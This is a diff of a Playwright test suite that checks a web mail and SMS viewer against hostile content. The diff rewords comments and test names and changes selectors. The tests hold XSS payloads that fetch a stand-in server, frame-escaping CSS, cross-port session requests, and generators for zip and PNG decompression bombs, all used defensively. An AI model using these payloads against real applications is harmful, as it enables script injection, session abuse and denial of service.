@@ -7,10 +7,10 @@ import { openStranger, type Stranger } from "./stranger.ts";
 
 const server = "shop1234";
 const to = `victim@${server}.restante.test`;
-/** Longest that the page may be busy, whatever a mail holds. */
+/** Longest time that an email may block the page, in milliseconds. */
 const busyMsMax = 1500;
 
-/** Each HTML with `URL` for the stranger's address; whoever obeys it asks there, or changes the page around it. */
+/** HTML that, if it had its effect, would request `URL`, the address of another server, or change the page around it. */
 const bodies: Readonly<Record<string, string>> = {
   "inline script": `<script>parent.document.title="pwned";fetch("URL/script")</script><p>x`,
   "a script from elsewhere": `<script src="URL/a.js"></script><script type="module" src="URL/b.js"></script>`,
@@ -26,7 +26,7 @@ const bodies: Readonly<Record<string, string>> = {
   "what other readers run": `<a href="javascript:fetch('URL/js')" autofocus onfocus="fetch('URL/f')">x</a><math><mtext></p><style><img src="</style><img src=x onerror=fetch('URL/m')>"></math><noscript><img src="URL/noscript"></noscript>`,
 };
 
-/** What a mail with much in it must not do to the page. */
+/** HTML that is expensive to lay out. */
 const heavy: Readonly<Record<string, string>> = {
   "5 MB of nested tables": "<table><tr><td>".repeat(350_000),
   "0.9 MB of nested tables": "<table><tr><td>".repeat(62_000),
@@ -34,7 +34,7 @@ const heavy: Readonly<Record<string, string>> = {
   "0.9 MB of nested inline elements": "<b><i>".repeat(150_000),
 };
 
-/** Mail that wants to do more than be read. */
+/** Journeys with hostile emails and pages. */
 export function hostile(bench: () => Bench): void {
   const open = async (mail: SendMailOptions | string, tab = ""): Promise<SignedIn> => {
     await empty(bench(), server);
@@ -55,7 +55,7 @@ export function hostile(bench: () => Bench): void {
     expect(page.context().pages()).toHaveLength(1);
   };
 
-  test("no HTML runs, navigates or phones home by itself", async () => {
+  test("HTML of an email runs no script, navigates nowhere and sends no request", async () => {
     await using stranger = await openStranger();
     await empty(bench(), server);
     for (const [subject, html] of Object.entries(bodies)) {
@@ -75,7 +75,7 @@ export function hostile(bench: () => Bench): void {
     }
   });
 
-  test("forms are not sent, whoever presses the button", async () => {
+  test("blocks the submission of forms in emails", async () => {
     await using stranger = await openStranger();
     const html = ["_self", "_top", "_blank"]
       .map((target) => `<form action="${stranger.url}/f" target=${target}><button>Send ${target}</button></form>`)
@@ -87,7 +87,7 @@ export function hostile(bench: () => Bench): void {
     await expectUnharmed(visitor, stranger);
   });
 
-  test("links open new tabs without an opener, whatever target they name", async () => {
+  test("opens links in new tabs without an opener, whatever their target", async () => {
     await using stranger = await openStranger({ "/blank": "<title>there</title>" });
     const html = ["_top", "_parent", "_self", "_blank"]
       .map(
@@ -110,18 +110,18 @@ export function hostile(bench: () => Bench): void {
     expect(stranger.asked).toEqual(["/top", "/parent", "/self", "/blank"]);
   });
 
-  test("styles stay within the frame", async () => {
+  test("keeps styles of an email within its frame", async () => {
     const html = `<style>*{position:fixed!important;inset:-9999px!important;z-index:2147483647!important;width:99999px;height:99999px;background:red}</style><div>over all</div>`;
     await using visitor = await open({ subject: "escape", html });
     const { page } = visitor;
-    const box = await page.locator(".stage").boundingBox();
+    const box = await page.getByRole("tabpanel", { name: "HTML" }).boundingBox();
     const frame = await page.locator("iframe").boundingBox();
     expect(frame).toEqual(box);
     await page.getByRole("tab", { name: "Source" }).click();
     await page.getByRole("tabpanel", { name: "Source" }).getByText("Subject: escape").waitFor();
   });
 
-  test("opened outside of its frame, a mail has an origin of its own and runs nothing", async () => {
+  test("gives an email an opaque origin and no scripts when it is opened outside its frame", async () => {
     await using stranger = await openStranger();
     const html = `<script>fetch("${stranger.url}/x")</script><img src=x onerror="fetch('${stranger.url}/y')">`;
     await using visitor = await open({ subject: "alone", html });
@@ -132,17 +132,17 @@ export function hostile(bench: () => Bench): void {
     expect(stranger.asked).toEqual([]);
   });
 
-  test("remote content comes when it is asked for, and not before", async () => {
+  test("loads remote content only on request", async () => {
     await using stranger = await openStranger();
     await using visitor = await open({ subject: "remote", html: `<img src="${stranger.url}/logo.png" alt="logo">` });
     const { page } = visitor;
-    await page.getByText("1 remote image not loaded.").waitFor();
+    await page.getByText("1 remote image blocked.").waitFor();
     expect(stranger.asked).toEqual([]);
     await page.getByRole("button", { name: "Load remote content" }).click();
     await expect.poll(() => stranger.asked).toEqual(["/logo.png"]);
   });
 
-  test.each(Object.keys(heavy))("%s does not freeze the page", async (name) => {
+  test.each(Object.keys(heavy))("stays responsive with %s", async (name) => {
     await using visitor = await open({ subject: name, html: heavy[name] ?? "" });
     const { page } = visitor;
     const anyway = page.getByRole("button", { name: "Show it anyway" });
@@ -157,7 +157,7 @@ export function hostile(bench: () => Bench): void {
     expect(await page.evaluate<number>("window.longest")).toBeLessThan(busyMsMax);
   });
 
-  test("names and texts of a mail are texts, wherever they are shown", async () => {
+  test("escapes names, subjects and texts of an email everywhere", async () => {
     const evil = `<img src=x onerror="document.title='pwned'">`;
     const mail = {
       subject: evil,
@@ -181,7 +181,7 @@ export function hostile(bench: () => Bench): void {
     await expectUnharmed(visitor, stranger);
   });
 
-  test("a text is a text, in its row and in its chat", async () => {
+  test("escapes the text of an SMS in list and conversation", async () => {
     await using stranger = await openStranger();
     const evil = `<img src=x onerror="fetch('${stranger.url}')"><script>fetch("${stranger.url}")</script>`;
     await empty(bench(), server);
@@ -190,12 +190,12 @@ export function hostile(bench: () => Bench): void {
     await using visitor = await visit(bench(), { path: `/servers/${server}` });
     const { page } = visitor;
     await page.getByRole("link", { name: /\+15550166/ }).click();
-    await page.locator(".turn-text").getByText(evil).waitFor();
+    await page.getByRole("listitem").getByRole("paragraph").getByText(evil).waitFor();
     expect(await page.locator("img[src=x]").count()).toBe(0);
     await expectUnharmed(visitor, stranger);
   });
 
-  test("attachments are never unpacked, run or shown as more than they safely are", async () => {
+  test("never extracts or runs attachments, and previews only safe types", async () => {
     await using stranger = await openStranger();
     const script = `<script>fetch("${stranger.url}/attached")</script>`;
     const attachments = [
@@ -212,7 +212,7 @@ export function hostile(bench: () => Bench): void {
     await using visitor = await open({ subject: "bombs", text: "x", attachments }, "/attachments");
     const { page } = visitor;
     const item = (name: string): ReturnType<typeof page.locator> =>
-      page.locator(".attachment").filter({ hasText: name });
+      page.getByRole("tabpanel", { name: "Attachments" }).getByRole("listitem").filter({ hasText: name });
     for (const name of ["bomb.zip", "drawing.svg", "paper.pdf"]) {
       await item(name).getByRole("button", { name: "Download" }).waitFor();
       expect(await item(name).getByRole("button").count()).toBe(1);
@@ -228,7 +228,7 @@ export function hostile(bench: () => Bench): void {
     await expectUnharmed(visitor, stranger);
   });
 
-  test("a page on another port of this machine gets nothing out of the visitor's session", async () => {
+  test("denies a page on another port of the host access to the session", async () => {
     const { url } = bench().service;
     const page = `<script>
       const tries = [["GET", "/api/servers"], ["DELETE", "/web/session"], ["POST", "/api/servers"]];
@@ -257,7 +257,7 @@ export function hostile(bench: () => Bench): void {
     await visitor.page.getByRole("heading", { name: "Servers" }).waitFor();
   });
 
-  test("an application on another port of this machine can do nothing with the cookie it receives", async () => {
+  test("rejects the session cookie without the page token", async () => {
     const { url } = bench().service;
     await using visitor = await visit(bench());
     const cookie = (await visitor.context.cookies()).map(({ name, value }) => `${name}=${value}`).join("; ");
@@ -269,16 +269,16 @@ export function hostile(bench: () => Bench): void {
   });
 }
 
-/** Resolves when the frames have loaded, and whatever they began would have got through: five round trips later. */
+/** Resolves when the frames have loaded and any request of theirs would have arrived: after five round trips. */
 async function settle(page: Page): Promise<void> {
   // The frame comes a request later than the page around it, with its signed URL.
-  if ((await page.locator(".stage").count()) > 0) await page.locator(".stage iframe").waitFor();
+  if ((await page.locator("[data-width]").count()) > 0) await page.locator("[data-width] iframe").waitFor();
   for (const frame of page.mainFrame().childFrames()) await frame.waitForLoadState("load");
   for (let count = 0; count < 5; count += 1)
     await page.evaluate(`fetch("/web/session").then((answer) => answer.text())`);
 }
 
-/** A small archive whose one file claims, and has, 20 MB of nothing. */
+/** Returns a small archive with a file of 20 MB of zeros. */
 function zipBomb(): Buffer {
   const content = deflateRawSync(Buffer.alloc(20_000_000));
   const header = Buffer.alloc(30);
@@ -290,7 +290,7 @@ function zipBomb(): Buffer {
   return Buffer.concat([header, Buffer.from("a"), content]);
 }
 
-/** A small file that claims 30,000 × 30,000 pixels, and would have them. */
+/** Returns a small image file of 30,000 × 30,000 pixels. */
 function pngBomb(): Buffer {
   const size = Buffer.alloc(13);
   size.writeUInt32BE(30_000, 0);
